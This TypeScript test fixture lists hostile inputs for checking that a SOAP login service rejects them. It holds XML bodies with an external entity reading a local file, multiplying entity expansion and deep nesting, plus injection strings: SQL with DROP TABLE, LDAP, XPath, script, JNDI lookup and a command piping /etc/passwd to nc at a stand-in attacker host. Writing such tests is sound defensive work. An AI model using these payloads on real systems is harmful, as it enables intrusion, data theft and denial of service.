interface HostileBody {
  readonly what: string;
  /** Created on use, because some are large. */
  readonly body: () => string;
  readonly contentType?: string;
}

const NAMESPACE = "urn:ebok:service:1";
const SOAP = "http://schemas.xmlsoap.org/soap/envelope/";

const envelope = (content: string, before = ""): string =>
  `<?xml version="1.0" encoding="UTF-8"?>${before}<soap:Envelope xmlns:soap="${SOAP}"><soap:Body>${content}</soap:Body></soap:Envelope>`;
const beforeLogin = (login: string): string =>
  `<beforeLogin xmlns="${NAMESPACE}"><login>${login}</login></beforeLogin>`;

const LARGE_BYTES = 10_000_000;
const DEPTH = 20_000;

/** Bodies that are no call of the contract. */
export const HOSTILE_BODIES: readonly HostileBody[] = [
  { what: "an empty body", body: () => "" },
  { what: "a document type", body: () => envelope(beforeLogin("a"), "<!DOCTYPE a>") },
  {
    what: "an external entity",
    body: () => envelope(beforeLogin("&x;"), '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]>'),
  },
  {
    what: "entities that multiply",
    body: () =>
      envelope(
        beforeLogin("&e9;"),
        `<!DOCTYPE a [<!ENTITY e0 "ha">${Array.from({ length: 9 }, (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`).join("")}]>`,
      ),
  },
  { what: "an undeclared entity", body: () => envelope(beforeLogin("&nbsp;")) },
  { what: "a control character", body: () => envelope(beforeLogin("a\u0001b")) },
  { what: "a reference to a control character", body: () => envelope(beforeLogin("a&#0;b")) },
  { what: "XML that is cut off", body: () => envelope(beforeLogin("a")).slice(0, -30) },
  { what: "deep nesting", body: () => envelope("<a>".repeat(DEPTH) + "</a>".repeat(DEPTH)) },
  { what: "10 MB in one field", body: () => envelope(beforeLogin("a".repeat(LARGE_BYTES))) },
  { what: "an unknown operation", body: () => envelope(`<dropEverything xmlns="${NAMESPACE}"/>`) },
  {
    what: "an operation of another namespace",
    body: () => envelope('<beforeLogin xmlns="urn:other"><login>a</login></beforeLogin>'),
  },
  { what: "two operations", body: () => envelope(beforeLogin("a") + beforeLogin("b")) },
  { what: "a body without operation", body: () => envelope("") },
  { what: "JSON", body: () => '{"operation":"beforeLogin","login":"a"}', contentType: "application/json" },
  { what: "HTML", body: () => "<!doctype html><html><body>a</body></html>", contentType: "text/html" },
  { what: "a form", body: () => "operation=beforeLogin&login=a", contentType: "application/x-www-form-urlencoded" },
];

/** Texts that are valid in a request, for logins that no customer has. */
export const HOSTILE_TEXTS: readonly { readonly what: string; readonly text: string }[] = [
  { what: "SQL", text: "x' OR '1'='1' -- " },
  { what: "a second SQL statement", text: "x'; DROP TABLE login; --" },
  { what: "LDAP", text: "*)(uid=*))(|(uid=*" },
  { what: "a query of a document store", text: '{"$ne": null}' },
  { what: "XPath", text: "' or ''='" },
  { what: "a script", text: "<script>alert(1)</script>" },
  { what: "a template", text: "${7*7}{{7*7}}#{7*7}" },
  { what: "a lookup", text: "${jndi:ldap://attacker.invalid/a}" },
  { what: "a path", text: "../../../../etc/passwd" },
  { what: "a command", text: "; cat /etc/passwd | nc attacker.invalid 1" },
  { what: "a line break", text: "a\r\nSet-Cookie: kit=1" },
  { what: "right-to-left marks and emoji", text: "\u202eadmin\u202c 🐘" },
  { what: "a long text", text: "ż".repeat(5_000) },
];
